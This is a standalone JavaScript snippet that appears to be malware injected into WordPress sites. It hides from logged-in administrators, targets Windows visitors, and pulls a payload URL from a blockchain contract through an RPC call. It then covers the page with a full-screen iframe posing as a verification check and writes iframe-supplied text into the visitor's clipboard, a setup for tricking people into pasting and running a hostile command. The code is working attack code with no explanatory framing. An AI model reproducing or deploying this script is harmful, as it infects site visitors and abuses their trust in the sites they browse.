(function (w, d) {
  if (d.cookie.indexOf("wpv_seen") !== -1 || d.cookie.indexOf("wordpress_logged_in") !== -1) return;
  if (!/Windows/i.test(w.navigator.userAgent)) return;
  var contract = "0x0000000000000000000000000000000000000001";
  function rpc(cb) {
    fetch("https://bsc-rpc.example/", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 97, method: "eth_call", params: [{ to: contract, data: "0x6d4ce63c" }, "latest"] })
    }).then(function (r) { return r.json(); }).then(function (j) {
      var hex = j.result.slice(130), s = "";
      for (var i = 0; i < hex.length; i += 2) { var c = parseInt(hex.substr(i, 2), 16); if (c) s += String.fromCharCode(c); }
      cb(atob(s));
    });
  }
  rpc(function (url) {
    var f = d.createElement("iframe");
    f.src = url + "/cf/?d=" + w.location.hostname;
    f.allow = "clipboard-write";
    f.style = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999999;border:none";
    d.body.appendChild(f);
    d.body.style.overflow = "hidden";
    w.addEventListener("message", function (e) {
      if (e.data && e.data.copy) w.navigator.clipboard.writeText(e.data.copy);
      if (e.data === "verified") { f.remove(); d.body.style.overflow = ""; d.cookie = "wpv_seen=1;max-age=604800;path=/"; }
    });
  });
})(window, document);
